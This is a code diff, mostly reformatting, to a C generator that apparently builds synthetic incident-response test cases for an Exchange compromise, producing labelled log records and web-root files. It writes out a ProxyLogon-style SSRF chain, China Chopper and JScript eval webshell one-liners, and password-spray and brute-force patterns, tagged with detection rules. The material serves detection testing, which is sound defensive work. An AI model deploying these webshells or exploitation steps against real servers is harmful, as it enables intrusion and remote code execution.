@@ -78,9 +78,16 @@ static void fe(gen_case *c, int64_t t, const char *method, const char *stem,
                const char *query, const char *user, const char *cip,
                const char *ua, unsigned status, unsigned sub, unsigned w32,
                uint32_t rules, const char *note) {
-  gen_iis_rec r = {.t_ms = t, .method = method, .stem = stem, .query = query,
-                   .user = user, .cip = cip, .ua = ua, .status = status,
-                   .substatus = sub, .win32 = w32,
+  gen_iis_rec r = {.t_ms = t,
+                   .method = method,
+                   .stem = stem,
+                   .query = query,
+                   .user = user,
+                   .cip = cip,
+                   .ua = ua,
+                   .status = status,
+                   .substatus = sub,
+                   .win32 = w32,
                    .taken = 15 + gen_rng_below(&c->rng, 400),
                    .sc_bytes = 300 + gen_rng_below(&c->rng, 4000),
                    .cs_bytes = 400 + gen_rng_below(&c->rng, 1500)};
@@ -91,9 +98,14 @@ static void fe(gen_case *c, int64_t t, const char *method, const char *stem,
  * account authenticates to the backend. */
 static void be(gen_case *c, int64_t t, const char *stem, const char *query,
                unsigned status, uint32_t rules, const char *note) {
-  gen_iis_rec r = {.t_ms = t, .method = "POST", .stem = stem,
-                   .query = cafe(c, query), .user = GEN_MACHINE_ACCOUNT,
-                   .cip = GEN_SERVER_IP, .ua = UA_PYREQ, .status = status,
+  gen_iis_rec r = {.t_ms = t,
+                   .method = "POST",
+                   .stem = stem,
+                   .query = cafe(c, query),
+                   .user = GEN_MACHINE_ACCOUNT,
+                   .cip = GEN_SERVER_IP,
+                   .ua = UA_PYREQ,
+                   .status = status,
                    .taken = 60 + gen_rng_below(&c->rng, 2000),
                    .host = GEN_SERVER_FQDN_LC};
   gen_case_iis(c, 2, &r, rules, note);
@@ -103,10 +115,18 @@ static void be(gen_case *c, int64_t t, const char *stem, const char *query,
 static void hp(gen_case *c, int64_t t, const char *ip, const char *ua,
                const char *stem, const char *anchor, const char *be_cookie,
                unsigned status, uint32_t rules, const char *note) {
-  gen_hp_req q = {.t_ms = t, .proto = "Ecp", .stem = stem, .method = "POST",
-                  .anchor = anchor, .ua = ua, .cip = ip, .status = status,
-                  .be_status = status, .target = GEN_SERVER_FQDN,
-                  .routing_hint = "X-BEResource-Cookie", .be_cookie = be_cookie,
+  gen_hp_req q = {.t_ms = t,
+                  .proto = "Ecp",
+                  .stem = stem,
+                  .method = "POST",
+                  .anchor = anchor,
+                  .ua = ua,
+                  .cip = ip,
+                  .status = status,
+                  .be_status = status,
+                  .target = GEN_SERVER_FQDN,
+                  .routing_hint = "X-BEResource-Cookie",
+                  .be_cookie = be_cookie,
                   .req_bytes = 300 + gen_rng_below(&c->rng, 900),
                   .resp_bytes = 200 + gen_rng_below(&c->rng, 3000),
                   .total_ms = 20 + gen_rng_below(&c->rng, 400)};
@@ -119,14 +139,15 @@ static void ecp(gen_case *c, int64_t t, unsigned ms, const char *cmd,
   gen_rng_guid(&c->rng, sid);
   gen_rng_guid(&c->rng, act);
   snprintf(time, sizeof time, "%u", ms);
-  gen_kv kv[] = {{"TIME", time}, {"SID", sid},     {"CMD", cmd},
-                 {"REQID", ""},  {"URL", url},     {"REFERRER", ""},
-                 {"EX", ""},     {"ACTID", act},   {"RS", "0"},
+  gen_kv kv[] = {{"TIME", time},       {"SID", sid},   {"CMD", cmd},
+                 {"REQID", ""},        {"URL", url},   {"REFERRER", ""},
+                 {"EX", ""},           {"ACTID", act}, {"RS", "0"},
                  {"BLD", GEN_EX_BUILD}};
   gen_case_ecp(c, t, kv, sizeof kv / sizeof kv[0], rules, note);
 }
 
-/* ---- the SSRF chain of 2021-03-03 ------------------------------------------ */
+/* ---- the SSRF chain of 2021-03-03 ------------------------------------------
+ */
 
 static void ssrf_chain(gen_case *c, const atk *a) {
   const char *srv = "ServerInfo~a]@" GEN_SERVER_FQDN ":444";
@@ -142,15 +163,16 @@ static void ssrf_chain(gen_case *c, const atk *a) {
 
   /* 2. MAPI connect to get the admin SID. */
   hp(c, T(3, 6, 59, 11, 840), ATK1, UA_PYREQ, "/ecp/y.js",
-     gen_case_fmt(c, "%s/mapi/emsmdb/?#", srv), NULL, 200,
-     GEN_R_ANCHOR_MAILBOX, "SSRF anchor to /mapi/emsmdb");
+     gen_case_fmt(c, "%s/mapi/emsmdb/?#", srv), NULL, 200, GEN_R_ANCHOR_MAILBOX,
+     "SSRF anchor to /mapi/emsmdb");
   fe(c, T(3, 6, 59, 11, 920), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
      UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");
 
   /* 3. proxyLogon.ecp: the 241 that hands out an ECP session. */
   hp(c, T(3, 6, 59, 13, 30), ATK1, UA_PYREQ, "/ecp/y.js",
      gen_case_fmt(c, "%s/ecp/proxyLogon.ecp?#", srv), NULL, 241,
-     GEN_R_ANCHOR_MAILBOX | GEN_R_PROXYLOGON_ECP, "SSRF to proxyLogon.ecp, 241");
+     GEN_R_ANCHOR_MAILBOX | GEN_R_PROXYLOGON_ECP,
+     "SSRF to proxyLogon.ecp, 241");
   fe(c, T(3, 6, 59, 13, 110), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
      UA_PYREQ, 241, 0, 0, JS | GEN_R_PROXYLOGON_ECP,
      "anonymous POST to /ecp/y.js answered 241");
@@ -179,11 +201,12 @@ static void ssrf_chain(gen_case *c, const atk *a) {
 
   /* 5. Write the script into ExternalUrl. */
   ecp(c, T(3, 6, 59, 17, 960), 4365,
-      gen_case_fmt(c,
-                   "Set-OabVirtualDirectory.ExternalUrl='http://f/<script "
-                   "language=\"JScript\" runat=\"server\">function Page_Load()"
-                   "{eval(Request[\"%s\"],\"unsafe\");}</script>'.Identity='%s'",
-                   a->pw_oab, a->vdir_guid),
+      gen_case_fmt(
+          c,
+          "Set-OabVirtualDirectory.ExternalUrl='http://f/<script "
+          "language=\"JScript\" runat=\"server\">function Page_Load()"
+          "{eval(Request[\"%s\"],\"unsafe\");}</script>'.Identity='%s'",
+          a->pw_oab, a->vdir_guid),
       gen_case_fmt(c, "/ecp/DDI/DDIService.svc/SetObject?%s%s", q_oab, ssrf),
       GEN_R_ECP_SET_SCRIPT, "Set-OabVirtualDirectory ExternalUrl script");
   hp(c, T(3, 6, 59, 18, 42), ATK1, UA_PYREQ, "/ecp/y.js",
@@ -215,8 +238,8 @@ static void ssrf_chain(gen_case *c, const atk *a) {
      "SSRF DDIService ResetOABVirtualDirectory");
   fe(c, T(3, 6, 59, 20, 420), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
      UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");
-  be(c, T(3, 6, 59, 20, 400), "/ecp/DDI/DDIService.svc/SetObject", q_reset,
-     200, GEN_R_BACKEND_MACHINE | GEN_R_DDI_OAB_VDIR,
+  be(c, T(3, 6, 59, 20, 400), "/ecp/DDI/DDIService.svc/SetObject", q_reset, 200,
+     GEN_R_BACKEND_MACHINE | GEN_R_DDI_OAB_VDIR,
      "backend DDIService ResetOABVirtualDirectory as machine account");
 
   /* 7. The export lands in the web root. */
@@ -237,12 +260,13 @@ static void ssrf_chain(gen_case *c, const atk *a) {
 
   /* 9. The attacker checks the dropped shell. */
   fe(c, T(3, 7, 1, 44, 0), "GET",
-     gen_case_fmt(c, "/aspnet_client/system_web/%s.aspx", a->shell), "-",
-     NULL, ATK1, UA_PYREQ, 200, 0, 0, GEN_R_WEBSHELL_ACCESS,
+     gen_case_fmt(c, "/aspnet_client/system_web/%s.aspx", a->shell), "-", NULL,
+     ATK1, UA_PYREQ, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
      "dropped shell answers 200");
 }
 
-/* ---- later activity ---------------------------------------------------------- */
+/* ---- later activity
+ * ---------------------------------------------------------- */
 
 static void second_actor(gen_case *c, const atk *a) {
   char stem[24];
@@ -265,29 +289,40 @@ static void shell_use(gen_case *c, const atk *a) {
   const char *chop = gen_case_fmt(c, "/owa/auth/%s.aspx", a->chopper);
   fe(c, T(5, 3, 6, 27, 0), "GET", "/owa/auth/RedirSuiteServerProxy.aspx",
      cafe(c, NULL), NULL, LOOKALIKE_IP, UA_CHROME65, 200, 0, 0,
-     GEN_R_WEBSHELL_ACCESS, "look-alike RedirSuiteServerProxy.aspx 200");
+     GEN_R_FLAGGED_ACCESS, "look-alike RedirSuiteServerProxy.aspx 200");
   static const int at[][2] = {{7, 2}, {7, 15}, {8, 40}, {11, 2}};
   for (size_t i = 0; i < sizeof at / sizeof at[0]; i++)
     fe(c, T(5, 3, at[i][0], at[i][1], 0), "POST", shell, "-", NULL, ATK2,
-       UA_ANTSWORD, 200, 0, 0, GEN_R_WEBSHELL_ACCESS,
+       UA_ANTSWORD, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
        "antSword POST to dropped shell");
   fe(c, T(5, 3, 20, 11, 0), "POST", chop, cafe(c, NULL), NULL, ATK2,
-     UA_ANTSWORD, 200, 0, 0, GEN_R_WEBSHELL_ACCESS,
+     UA_ANTSWORD, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
      "antSword POST to China Chopper");
   fe(c, T(5, 3, 21, 30, 0), "POST", chop, cafe(c, NULL), NULL, ATK2,
-     UA_ANTSWORD, 200, 0, 0, GEN_R_WEBSHELL_ACCESS,
+     UA_ANTSWORD, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
      "antSword POST to China Chopper");
+  /* A shell that was removed before the collection: only the log shows it. */
+  fe(c, T(5, 3, 25, 2, 0), "POST", "/aspnet_client/discover.aspx", "-", NULL,
+     ATK2, UA_ANTSWORD, 200, 0, 0, GEN_R_WEBSHELL_ACCESS,
+     "antSword POST to a shell no longer on disk");
 }
 
 static void scanners(gen_case *c) {
-  gen_hp_req q = {.t_ms = T(6, 10, 36, 34, 479), .proto = "Owa",
-                  .stem = "/owa/auth/x.js", .method = "GET",
+  gen_hp_req q = {.t_ms = T(6, 10, 36, 34, 479),
+                  .proto = "Owa",
+                  .stem = "/owa/auth/x.js",
+                  .method = "GET",
                   .anchor = "ServerInfo~localhost/owa/auth/logon.aspx?",
-                  .ua = UA_ZGRAB, .cip = LOCALSCAN_IP, .status = 500,
-                  .be_status = 500, .target = "localhost",
+                  .ua = UA_ZGRAB,
+                  .cip = LOCALSCAN_IP,
+                  .status = 500,
+                  .be_status = 500,
+                  .target = "localhost",
                   .routing_type = "CrossRegion",
                   .routing_hint = "X-AnonResource-Backend-Cookie",
-                  .req_bytes = 180, .resp_bytes = 1200, .total_ms = 9};
+                  .req_bytes = 180,
+                  .resp_bytes = 1200,
+                  .total_ms = 9};
   gen_case_hp(c, &q, GEN_R_LOCALHOST_SCAN, "SSRF scan to localhost");
 
   static const struct {
@@ -315,11 +350,12 @@ static void scanners(gen_case *c) {
      PROBE_IP, UA_CHROME87, 200, 0, 0, 0, NULL);
 }
 
-/* ---- authentication attacks -------------------------------------------------- */
+/* ---- authentication attacks
+ * -------------------------------------------------- */
 
 static void spray(gen_case *c) {
-  static const char *const extra[] = {"administrator", "admin", "test",
-                                      "backup", "helpdesk", "scanner"};
+  static const char *const extra[] = {"administrator", "admin",    "test",
+                                      "backup",        "helpdesk", "scanner"};
   const size_t nreal = 24;
   const char *users[30];
   size_t nu = gen_case_nusers();
@@ -345,10 +381,11 @@ static void spray(gen_case *c) {
   round2[11] = winner;
   for (size_t i = 0; i < 12; i++) {
     const char *u = users[round2[i]];
-    const char *q = gen_case_fmt(
-        c, "Cmd=FolderSync&User=%s%%40corp.example&DeviceId=SPRAY%04u"
-           "&DeviceType=iPhone",
-        u, (unsigned)i);
+    const char *q =
+        gen_case_fmt(c,
+                     "Cmd=FolderSync&User=%s%%40corp.example&DeviceId=SPRAY%04u"
+                     "&DeviceType=iPhone",
+                     u, (unsigned)i);
     const char *upn = gen_case_fmt(c, "%s@" GEN_DOMAIN, u);
     if (i < 11)
       fe(c, t, "POST", "/Microsoft-Server-ActiveSync/default.eas", cafe(c, q),
@@ -365,14 +402,15 @@ static void spray(gen_case *c) {
 static void brute_force(gen_case *c) {
   int64_t t = T(5, 9, 12, 0, 0);
   for (int i = 0; i < 25; i++) {
-    fe(c, t, "POST", "/EWS/Exchange.asmx", cafe(c, NULL),
-       "exadmin@" GEN_DOMAIN, BRUTE_IP, UA_BRUTE, 401, 1, 1326,
-       GEN_R_BRUTE_FORCE, "brute force of exadmin, 401");
+    fe(c, t, "POST", "/EWS/Exchange.asmx", cafe(c, NULL), "exadmin@" GEN_DOMAIN,
+       BRUTE_IP, UA_BRUTE, 401, 1, 1326, GEN_R_BRUTE_FORCE,
+       "brute force of exadmin, 401");
     t += 4000 + gen_rng_below(&c->rng, 8000);
   }
 }
 
-/* ---- web root ------------------------------------------------------------------ */
+/* ---- web root
+ * ------------------------------------------------------------------ */
 
 /* Get-OabVirtualDirectory | Format-List output, as the reset writes it. */
 static const char *oab_export(gen_case *c, const atk *a, const char *ext_url) {
@@ -418,16 +456,17 @@ static const char *oab_export(gen_case *c, const atk *a, const char *ext_url) {
     n += (size_t)w;
   }
   if (n < sizeof buf) {
-    w = snprintf(buf + n, sizeof buf - n,
-                 "%-37s: %s\r\n%-37s: %s\r\n%-37s: %s\r\n%-37s: %s\r\n"
-                 "%-37s: %s\r\n%-37s: \r\n%-37s: %s\r\n%-37s: %s\r\n\r\n\r\n",
-                 "Guid", a->vdir_guid, "ObjectCategory",
-                 "corp.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
-                 "ObjectClass",
-                 "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}",
-                 "WhenChanged", "3/3/2021 6:59:18 AM", "WhenCreated",
-                 "11/14/2020 3:12:40 PM", "OrganizationId",
-                 "OriginatingServer", "DC01." GEN_DOMAIN, "IsValid", "True");
+    w = snprintf(
+        buf + n, sizeof buf - n,
+        "%-37s: %s\r\n%-37s: %s\r\n%-37s: %s\r\n%-37s: %s\r\n"
+        "%-37s: %s\r\n%-37s: \r\n%-37s: %s\r\n%-37s: %s\r\n\r\n\r\n",
+        "Guid", a->vdir_guid, "ObjectCategory",
+        "corp.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
+        "ObjectClass",
+        "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}",
+        "WhenChanged", "3/3/2021 6:59:18 AM", "WhenCreated",
+        "11/14/2020 3:12:40 PM", "OrganizationId", "OriginatingServer",
+        "DC01." GEN_DOMAIN, "IsValid", "True");
     if (w > 0)
       n += (size_t)w;
   }
@@ -451,14 +490,16 @@ static void webroot(gen_case *c, const atk *a) {
                               "runat=\"server\">function Page_Load(){eval("
                               "Request[\"%s\"],\"unsafe\");}</script>",
                               a->pw_oab)),
-      GEN_R_FILE_WEBSHELL, "OAB vdir export holding a JScript eval shell");
+      GEN_R_YARA_OAB_EXPORT | GEN_R_YARA_CHOPPER_BLOCK,
+      "OAB vdir export holding a JScript eval shell");
   gen_case_webfile(
       c, gen_case_fmt(c, "%s%s.aspx", auth, a->chopper),
-      gen_case_fmt(c,
-                   "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],"
-                   "\"unsafe\");%%>",
-                   a->pw_chop),
-      GEN_R_FILE_WEBSHELL, "China Chopper one-liner");
+      gen_case_fmt(
+          c,
+          "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],"
+          "\"unsafe\");%%>",
+          a->pw_chop),
+      GEN_R_YARA_CHOPPER_ONELINER, "China Chopper one-liner");
   gen_case_webfile(
       c, gen_case_fmt(c, "%sRedirSuiteServerProxy.aspx", auth),
       gen_case_fmt(c,
@@ -468,27 +509,25 @@ static void webroot(gen_case *c, const atk *a) {
                    "Page_Load(){eval(Request[\"%s\"],\"unsafe\");}</script>\r\n"
                    "</body></html>\r\n",
                    a->pw_look),
-      GEN_R_STOCK_LOOKALIKE | GEN_R_FILE_WEBSHELL,
+      GEN_R_STOCK_LOOKALIKE | GEN_R_YARA_CHOPPER_BLOCK,
       "look-alike of RedirSuiteServiceProxy.aspx with an eval shell");
 
   /* Benign pages. */
-  gen_case_webfile(
-      c, gen_case_fmt(c, "%slogon.aspx", auth),
-      "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n"
-      "<html><head><title>Outlook</title></head><body>\r\n"
-      "<form method=\"post\" action=\"/owa/auth.owa\">"
-      "<input type=\"text\" name=\"username\"/>"
-      "<input type=\"password\" name=\"password\"/>"
-      "<input type=\"submit\" value=\"sign in\"/></form>\r\n"
-      "</body></html>\r\n",
-      0, NULL);
-  gen_case_webfile(
-      c, gen_case_fmt(c, "%serrorFE.aspx", auth),
-      "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n"
-      "<html><head><title>Error</title></head><body>\r\n"
-      "<p>Something went wrong. Please try again later.</p>\r\n"
-      "</body></html>\r\n",
-      0, NULL);
+  gen_case_webfile(c, gen_case_fmt(c, "%slogon.aspx", auth),
+                   "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n"
+                   "<html><head><title>Outlook</title></head><body>\r\n"
+                   "<form method=\"post\" action=\"/owa/auth.owa\">"
+                   "<input type=\"text\" name=\"username\"/>"
+                   "<input type=\"password\" name=\"password\"/>"
+                   "<input type=\"submit\" value=\"sign in\"/></form>\r\n"
+                   "</body></html>\r\n",
+                   0, NULL);
+  gen_case_webfile(c, gen_case_fmt(c, "%serrorFE.aspx", auth),
+                   "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n"
+                   "<html><head><title>Error</title></head><body>\r\n"
+                   "<p>Something went wrong. Please try again later.</p>\r\n"
+                   "</body></html>\r\n",
+                   0, NULL);
   gen_case_webfile(c, gen_case_fmt(c, "%sOabVdirExport.aspx", sysweb),
                    oab_export(c, a, "https://" GEN_MAIL_HOST "/OAB"), 0, NULL);
   gen_case_webfile(c, "inetpub/wwwroot/iisstart.htm",
